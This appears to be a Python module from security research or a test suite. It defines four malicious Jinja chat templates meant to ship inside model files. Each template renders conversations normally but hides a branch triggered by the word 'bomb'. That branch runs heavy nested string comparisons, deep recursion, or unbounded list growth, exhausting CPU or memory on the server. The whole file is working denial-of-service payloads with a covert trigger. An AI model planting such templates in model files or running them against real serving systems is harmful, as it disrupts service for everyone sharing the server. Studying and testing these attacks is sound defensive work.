"""Chat templates that cost far more than they look like; a template comes with the model file.

Each is rendered once for every question; only those of the attacker hold the word that starts it,
so that the bystander's own questions stay cheap.
"""

_PLAIN = (
    "{{ bos_token }}{% for message in messages %}{{ message.role }}: {{ message.content[:200] }}\n"
    "{% endfor %}"
)
_IF = "{% if messages[0].content[:4] == 'bomb' %}"

TEMPLATES = {
    "slices": _PLAIN + _IF + "{% set text = messages[0].content %}"
    "{% for i in range(1000) %}{% for j in range(90) %}{% if text[1:] == text[:-1] %}x{% endif %}"
    "{% endfor %}{% endfor %}{% endif %}",
    "in": _PLAIN + _IF + "{% set text = messages[0].content %}{% set part = text[4:50000] ~ 'b' %}"
    "{% for i in range(1000) %}{% for j in range(90) %}{% if part in text %}x{% endif %}"
    "{% endfor %}{% endfor %}{% endif %}",
    "recursive": _PLAIN
    + _IF
    + "{% for i in [1, 1] recursive %}{% if loop.depth < 22 %}{{ loop([1, 1]) }}{% endif %}"
    "{% endfor %}{% endif %}",
    "memory": _PLAIN
    + _IF
    + "{% set text = messages[0].content %}{% set kept = namespace(all=[]) %}"
    "{% for i in range(1000) %}{% set kept.all = kept.all + [text[i:]] %}{% endfor %}{% endif %}",
}
